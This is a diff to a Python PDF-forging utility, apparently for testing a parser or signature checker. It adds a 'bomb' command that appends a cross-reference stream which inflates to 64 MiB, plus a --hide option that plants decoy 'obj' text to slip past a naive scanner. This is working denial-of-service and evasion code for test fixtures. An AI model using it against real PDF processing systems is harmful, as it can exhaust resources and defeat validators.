@@ -18,6 +18,10 @@ signs with the openssl command line.
       change other objects in the same revision.
   pdf_forge.py show IN N
       prints object N's body as qpdf reads it (for building --obj texts).
+  pdf_forge.py bomb IN OUT [--hide]
+      appends a revision whose cross-reference stream inflates to 64 MiB (a flate bomb); with
+      --hide, a key ending in "obj" and a string holding an object header stand between its
+      /Type and its data (a look for the nearest "obj" would find no /XRef).
 """
 import hashlib
 import re
@@ -199,6 +203,24 @@ def cmd_sign(a):
     open(outp, "wb").write(bytes(out))
 
 
+def cmd_bomb(a):
+    data = open(a[0], "rb").read()
+    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
+    tr = qpdf_obj(a[0], "trailer")
+    size = int(re.search(r"/Size (\d+)", tr).group(1))
+    root = re.search(r"/Root (\d+ \d+ R)", tr).group(1).encode()
+    c = zlib.compressobj(9)
+    z = b"".join(c.compress(b"\0" * (1 << 20)) for _ in range(64)) + c.flush()
+    hide = b"/Xobj (1 0 obj) " if "--hide" in a[2:] else b""
+    out = bytearray(data)
+    x = len(out)
+    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /Root %s /Prev %d /W [1 4 2] /Index [%d 1] "
+            b"/Filter /FlateDecode %s/Length %d >>\nstream\n"
+            % (size, size + 1, root, prev, size, hide, len(z)) + z + b"\nendstream\nendobj\n")
+    out += b"startxref\n%d\n%%%%EOF\n" % x
+    open(a[1], "wb").write(bytes(out))
+
+
 def main():
     if len(sys.argv) < 3:
         sys.exit(__doc__)
@@ -209,6 +231,8 @@ def main():
         cmd_sign(a)
     elif c == "show":
         print(qpdf_obj(a[0], a[1]))
+    elif c == "bomb":
+        cmd_bomb(a)
     else:
         sys.exit(__doc__)
 
